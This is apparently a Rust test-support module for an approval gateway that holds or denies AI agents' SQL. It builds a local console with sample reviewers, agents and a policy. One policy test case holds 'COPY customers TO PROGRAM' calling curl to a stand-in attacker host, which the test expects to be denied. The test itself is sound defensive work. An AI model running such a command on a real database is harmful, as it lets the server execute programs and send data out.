//! A console with people, agents and a desk, on a port of its own, for tests that use it as the
//! world does: over HTTP.
#![allow(dead_code, unreachable_pub, reason = "each test binary uses a part of it")]

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use arc_swap::ArcSwap;
use countersign::actor::{
    Agent, AgentIdentity, AuthenticationMethod, Claims, GroupName, PersonName, Reviewer, ReviewerId,
};
use countersign::approval::request::{TransactionView, TreeHead};
use countersign::approval::seal::SealedSetting;
use countersign::approval::{Draft, Seal};
use countersign::classify::{self, Catalogue, Classification, Classifier, Context, SearchPath};
use countersign::desk::{Clock, Desk, Limits, Opened, Recorder, Unrecorded};
use countersign::identity::secret::{self, Kind, SecretHash};
use countersign::identity::{AgentEntry, Directory, ReviewerEntry, ScramVerifier};
use countersign::ledger::key::{KeyFiles, RootKey};
use countersign::ledger::{Event, Ledger};
use countersign::policy::{Decision, Defaults, Policy, Subject};
use countersign::refusal::Refusal;
use countersign::statement::{Digest, SessionId, SqlText, Statement, Target, TransactionStatus};
use countersign::web::record::Record;
use countersign::web::views::{
    Absent, Activity, HealthView, LoadedPolicy, PartStatus, SessionRow, SessionsView, ViewError,
};
use countersign::web::{Settings, Views, Web};
use jiff::{SignedDuration, Timestamp};
use parking_lot::Mutex;
use tokio::runtime::Runtime;
use tokio::sync::watch;
use url::Url;
use uuid::Uuid;

/// The tests' policy. `bob` and `carol` are DBAs, `carol` and `dave` security.
pub const POLICY: &str = r#"
[[rule]]
name = "customer-export"
when = { class = ["export"], table = ["public.customers", "pii.*"] }
then = "hold"
approvals = [{ group = "dba", count = 1 }, { group = "security", count = 1 }]
reason = "required"
expires = "15m"
escalate = [{ after = "5m", to = "oncall" }]

[[rule]]
name = "roles-need-a-login"
when = { class = ["grant"] }
then = "hold"
assurance = "login"

[[rule]]
name = "no-server-files"
when = { class = ["server_io"] }
then = "deny"
message = "Server files are out of bounds; ask the platform team for a bucket."

[[case]]
name = "exports of customers need two people"
sql = "COPY customers TO STDOUT"
agent = "reporting-bot"
expect = { then = "hold", rule = "customer-export" }

[[case]]
sql = "COPY customers TO PROGRAM 'curl https://evil.example'"
expect = { then = "deny", rule = "no-server-files" }
"#;

/// Keeps recorded events; fails while `broken` is set.
#[derive(Default)]
pub struct RecordedEvents {
    pub records: Mutex<Vec<Event>>,
    pub broken: Mutex<bool>,
}

impl Recorder for RecordedEvents {
    fn append(&self, record: Event) -> Result<(), Unrecorded> {
        if *self.broken.lock() {
            return Err(Unrecorded { disk_full: true });
        }
        self.records.lock().push(record);
        Ok(())
    }

    fn head(&self) -> Option<TreeHead> {
        let size = 18_204 + self.records.lock().len() as u64;
        Some(TreeHead { size, root: Digest::of(&size.to_be_bytes()) })
    }
}

/// Sessions that tests put there.
#[derive(Default)]
pub struct SampleSessions(pub Mutex<Vec<SessionRow>>);

impl SessionsView for SampleSessions {
    fn sessions(&self) -> Vec<SessionRow> {
        self.0.lock().clone()
    }

    fn kill(&self, session: SessionId, _: &ReviewerId) -> Result<bool, ViewError> {
        let mut rows = self.0.lock();
        let before = rows.len();
        rows.retain(|row| row.id != session);
        Ok(rows.len() < before)
    }
}

struct HealthyParts;

impl HealthView for HealthyParts {
    fn upstreams(&self) -> Vec<PartStatus> {
        vec![PartStatus { name: "app".to_owned(), healthy: true, note: None }]
    }

    fn channels(&self) -> Vec<PartStatus> {
        vec![PartStatus { name: "console".to_owned(), healthy: true, note: None }]
    }
}

/// A desk with a console and API before it.
pub struct Site {
    pub url: Url,
    pub web: Web,
    pub desk: Desk,
    pub recorded: Arc<RecordedEvents>,
    pub sample_sessions: Arc<SampleSessions>,
    pub directory: Arc<ArcSwap<Directory>>,
    pub policy: Arc<ArcSwap<Policy>>,
    /// Personal tokens by reviewer, passwords by agent.
    pub secrets: BTreeMap<&'static str, String>,
    classifier: Arc<Classifier>,
    catalogue: Arc<Catalogue>,
    time: Arc<Mutex<Timestamp>>,
    stop: watch::Sender<bool>,
    runtime: Option<Runtime>,
}

/// How a site differs from the usual one.
#[derive(Default)]
pub struct SiteSetup {
    /// Views that are not those of the tests.
    pub views: Option<Box<dyn FnOnce(Views) -> Views>>,
    /// The desk writes here instead of into [`RecordedEvents`].
    pub recorder: Option<Arc<dyn Recorder>>,
    pub patience: Option<Duration>,
    pub limits: Option<Limits>,
    pub connections: Option<countersign::web::ConnectionLimits>,
    /// Time passes.
    pub real_time: bool,
    /// Served over TLS with this certificate and key, under the name `localhost`.
    pub tls: Option<(Vec<u8>, Vec<u8>)>,
}

impl Site {
    pub fn open() -> Self {
        Self::open_with(SiteSetup::default())
    }

    pub fn open_with(setup: SiteSetup) -> Self {
        let runtime =
            tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let (directory, secrets) = people();
        let directory = Arc::new(ArcSwap::from_pointee(directory));
        let files = [("policies/exports.toml".to_owned(), POLICY.to_owned())];
        let policy = Policy::load(&files, Defaults::default()).unwrap();
        let policy = Arc::new(ArcSwap::from_pointee(policy));
        let recorded = Arc::new(RecordedEvents::default());
        // The clock is set by the test, so that two events can have the same time.
        let time = Arc::new(Mutex::new("2026-11-23T09:41:07Z".parse().unwrap()));
        let clock = if setup.real_time { Clock::real() } else { Clock::manual(time.clone()) };
        let recorder = setup.recorder.unwrap_or_else(|| recorded.clone());
        let desk = Desk::new(setup.limits.unwrap_or_default(), recorder, directory.clone(), clock);
        let classifier = Arc::new(Classifier::new(classify::Limits::default()));
        let catalogue = Catalogue::built_in(15);
        let sample_sessions = Arc::new(SampleSessions::default());
        let views = Views {
            ledger: Arc::new(Absent),
            sessions: sample_sessions.clone(),
            policy: Arc::new(LoadedPolicy {
                policy: policy.clone(),
                classifier: classifier.clone(),
                catalogue: catalogue.clone(),
                targets: vec![target()],
            }),
            health: Arc::new(HealthyParts),
        };
        let views = match setup.views {
            Some(change) => change(views),
            None => views,
        };
        let listener = runtime.block_on(tokio::net::TcpListener::bind(("127.0.0.1", 0))).unwrap();
        let address = listener.local_addr().unwrap();
        let url = match &setup.tls {
            Some(_) => format!("https://localhost:{}/", address.port()),
            None => format!("http://{address}/"),
        };
        let url = Url::parse(&url).unwrap();
        let tls = setup.tls.map(|(certificate, key)| {
            countersign::proxy::tls::install_provider();
            let key = rustls::pki_types::PrivateKeyDer::try_from(key).unwrap();
            let config = rustls::ServerConfig::builder().with_no_client_auth();
            Arc::new(config.with_single_cert(vec![certificate.into()], key).unwrap())
        });
        let settings = Settings::new(url.clone());
        let settings = Settings {
            patience: setup.patience.unwrap_or(settings.patience),
            connections: setup.connections.unwrap_or(settings.connections),
            ..settings
        };
        let web = Web::new(settings, desk.clone(), directory.clone(), views);
        let (stop, mut stopped) = watch::channel(false);
        runtime.spawn(web.clone().serve(listener, tls, async move {
            let _ = stopped.changed().await;
        }));
        let timers = desk.clone();
        runtime.spawn(async move { timers.run_timers().await });
        Self {
            url,
            web,
            desk,
            recorded,
            sample_sessions,
            directory,
            policy,
            secrets,
            classifier,
            catalogue,
            time,
            stop,
            runtime: Some(runtime),
        }
    }

    /// A site with a real ledger in `folder`.
    pub fn with_ledger(folder: &std::path::Path) -> (Self, Ledger) {
        let path = folder.join("ledger.db");
        let files = KeyFiles::beside(&path);
        RootKey::generate("countersign.example.com/production").unwrap().save(&files).unwrap();
        let mut settings = countersign::ledger::Settings::new(path);
        settings.heads = vec![folder.join("head")];
        let ledger = Ledger::open(&settings).unwrap();
        let record = Arc::new(Record::new(ledger.clone(), &settings, Clock::real()));
        let setup = SiteSetup {
            recorder: Some(Arc::new(ledger.clone())),
            views: Some(Box::new(move |views| Views { ledger: record, ..views })),
            real_time: true,
            ..SiteSetup::default()
        };
        (Self::open_with(setup), ledger)
    }

    pub fn now(&self) -> Timestamp {
        self.desk.now()
    }

    pub fn pass(&self, seconds: i64) {
        let mut time = self.time.lock();
        *time = time.checked_add(SignedDuration::from_secs(seconds)).unwrap();
    }

    /// Changes who is configured, as a reload does.
    pub fn change_people(&self, change: impl FnOnce(&mut Vec<AgentEntry>, &mut Vec<ReviewerEntry>)) {
        let before = self.directory.load();
        let mut agents: Vec<AgentEntry> = before.agents().cloned().collect();
        let mut reviewers: Vec<ReviewerEntry> = before.reviewers().cloned().collect();
        change(&mut agents, &mut reviewers);
        self.directory.store(Directory::new(agents, reviewers, [7; 32]).unwrap().into());
    }

    /// The address of `path`.
    pub fn at(&self, path: &str) -> String {
        self.url.join(path).unwrap().to_string()
    }

    /// A statement of `reporting-bot` that is held.
    pub fn ask(&self, sql: &str) -> Opened {
        self.ask_as("reporting-bot", sql, |_| {}).unwrap()
    }

    /// A statement of `agent`, with whatever `change` makes of the draft.
    pub fn ask_as(&self, agent: &str, sql: &str, change: impl FnOnce(&mut Draft)) -> Result<Opened, Refusal> {
        self.desk.open(self.draft(agent, sql, change))
    }

    pub fn classified(&self, sql: &SqlText) -> Arc<Classification> {
        let context = Context {
            server_version: 15,
            catalogue: &self.catalogue,
            search_path: &search_path(),
            database: "app",
            role: "app_rw",
            strings_standard: true,
        };
        self.classifier.classify(sql, &context)
    }

    /// What policy says.
    pub fn decided(&self, agent: &str, classification: &Classification) -> Decision {
        let agent = self.directory.load().agent(&agent.into()).unwrap().agent.clone();
        self.policy.load().decide(&Subject {
            agent: &agent,
            target: &target(),
            classification,
            search_path: &search_path(),
            in_transaction: false,
            claimed_defer: false,
            now: self.now(),
        })
    }

    pub fn draft(&self, name: &str, sql: &str, change: impl FnOnce(&mut Draft)) -> Draft {
        let agent = self.directory.load().agent(&name.into()).unwrap().agent.clone();
        let target = target();
        let statement = Statement::query(sql.into());
        let classification = self.classified(&statement.sql);
        let decision = self.decided(name, &classification);
        let Decision::Hold(terms) = decision else { panic!("not held: {decision:?}") };
        let session = SessionId(Uuid::now_v7());
        let settings = [("role", "none"), ("search_path", "public"), ("session_authorization", "app_rw")];
        let mut draft = Draft {
            seal: Seal {
                statement: statement.digest(),
                agent: agent.name.clone(),
                session: Some(session),
                upstream: target.upstream.clone(),
                database: target.database.clone(),
                role: target.role.clone(),
                settings: settings
                    .iter()
                    .map(|(name, value)| ((*name).into(), SealedSetting::Known((*value).into())))
                    .collect(),
                batch_before: None,
                prepared: BTreeMap::new(),
            },
            statement,
            classification,
            identity: Arc::new(AgentIdentity {
                agent,
                method: AuthenticationMethod::ScramSha256Plus,
                client_address: "203.0.113.24".into(),
                certificate_fingerprint: None,
                verified: Claims::default(),
            }),
            claimed: Claims::default(),
            session,
            target,
            transaction: TransactionView {
                status: Some(TransactionStatus::Idle),
                ..TransactionView::default()
            },
            terms,
            refers_to: Default::default(),
        };
        change(&mut draft);
        // Whatever was changed, the seal speaks of it.
        draft.seal.statement = draft.statement.digest();
        if draft.terms.defer {
            draft.seal.session = None;
        }
        draft
    }
}

impl Drop for Site {
    fn drop(&mut self) {
        self.stop.send_replace(true);
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_timeout(Duration::from_secs(2));
        }
    }
}

fn search_path() -> SearchPath {
    SearchPath::Known(vec!["public".into()])
}

pub fn target() -> Target {
    Target { upstream: "app".into(), database: "app".into(), role: "app_rw".into() }
}

/// A claim of everything, for pages that show it.
pub fn claims() -> Claims {
    let mut claims = Claims::default();
    claims.set("model", "gpt-5.2");
    claims.set("version", "3.8.1");
    claims.set("run", "r-8812");
    claims.set("task", "weekly customer report");
    claims.set("purpose", "build the churn table that finance asked for");
    claims
}

pub fn session_row(agent: &str, minutes: i64, now: Timestamp, activity: Activity) -> SessionRow {
    SessionRow {
        id: SessionId(Uuid::now_v7()),
        agent: agent.into(),
        upstream: "app".to_owned(),
        database: "app".to_owned(),
        role: "app_rw".to_owned(),
        client_address: "203.0.113.24".to_owned(),
        method: "scram-sha-256-plus",
        tls: true,
        opened_at: now.checked_sub(SignedDuration::from_mins(minutes)).unwrap(),
        activity,
        request: None,
        transaction: Some(TransactionStatus::Idle),
        statements: 1204,
        claimed: Claims::default(),
    }
}

fn people() -> (Directory, BTreeMap<&'static str, String>) {
    let mut secrets = BTreeMap::new();
    let mut agents = Vec::new();
    for (name, owner) in [
        ("reporting-bot", "alice@example.com"),
        ("migration-agent", "bob@example.com"),
        ("support-copilot", "erin@example.com"),
    ] {
        let password = secret::generate(Kind::Agent).to_string();
        let agent = Agent { name: name.into(), owners: vec![owner.into()], upstreams: vec!["app".into()] };
        agents.push(AgentEntry::with_password(agent, ScramVerifier::of_password(&password)));
        secrets.insert(name, password);
    }
    let mut reviewers = Vec::new();
    for (name, also, groups) in [
        ("alice", vec![], vec!["dba"]),
        ("bob", vec!["robert@corp.example"], vec!["dba"]),
        ("carol", vec![], vec!["dba", "security"]),
        ("dave", vec![], vec!["security", "oncall"]),
    ] {
        let token = secret::generate(Kind::Reviewer).to_string();
        reviewers.push(ReviewerEntry {
            reviewer: Arc::new(Reviewer {
                id: ReviewerId::new(format!("{name}@example.com")),
                also: also.into_iter().map(PersonName::from).collect(),
                groups: groups.into_iter().map(GroupName::from).collect(),
            }),
            tokens: vec![SecretHash::of(&token)],
            accounts: Vec::new(),
        });
        secrets.insert(name, token);
    }
    (Directory::new(agents, reviewers, [7; 32]).unwrap(), secrets)
}
